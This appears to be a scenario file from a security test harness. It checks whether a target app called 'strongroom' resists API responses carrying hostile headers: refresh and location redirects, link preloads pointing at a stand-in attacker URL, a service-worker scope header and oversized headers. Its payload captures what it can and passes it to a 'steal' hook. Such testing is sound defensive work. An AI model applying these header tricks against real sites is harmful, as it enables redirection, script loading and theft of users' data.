import { attack } from "../attack.js";

export default attack({
  name: "uses an API that sends hostile response headers",
  threat: "single-execution theft",
  target: "strongroom",
  async payload(it) {
    for (const name of ["refresh", "service-worker", "link", "huge", "moved", "nothing"]) {
      const response = await fetch(`/api/v1/hostile-${name}`).catch(
        (error: unknown) => void it.steal(String(error)),
      );
      it.steal(response?.url, [...(response?.headers ?? [])], await response?.text().catch(String));
    }
    const frame = document.createElement("iframe");
    frame.src = "/api/v1/hostile-refresh";
    document.body.append(frame);
    await navigator.serviceWorker
      .register(it.scriptUrl("/api/v1/hostile-service-worker"), { scope: "/" })
      .catch((error: unknown) => it.steal(String(error)));
    await it.pause(800);
  },
  async play(stage) {
    const { attackerUrl } = stage.facts;
    const home = `${attackerUrl}${stage.attackerPath}`;
    for (const [name, headers, status] of [
      ["refresh", { refresh: `0; url=${home}/refreshed` }, 200],
      ["service-worker", { "service-worker-allowed": "/", "content-type": "application/json" }, 200],
      ["link", { link: `<${home}/linked>; rel=preload; as=fetch, <${home}/script>; rel=modulepreload` }, 200],
      ["huge", { "x-huge": "x".repeat(12_000), "set-cookie": "session=x" }, 200],
      ["moved", { location: `${home}/moved`, "content-location": `${home}/moved` }, 201],
      ["nothing", { "www-authenticate": `Bearer realm="${home}"`, location: `${home}/denied` }, 401],
    ] as [string, Record<string, string>, number][]) {
      stage.site.routes.set(`/api/v1/hostile-${name}`, (_request, response) => {
        response.writeHead(status, { "content-type": "text/html", ...headers }).end("<p>hostile</p>");
      });
    }
    await stage.openSignedIn();
    await stage.inject();
  },
});
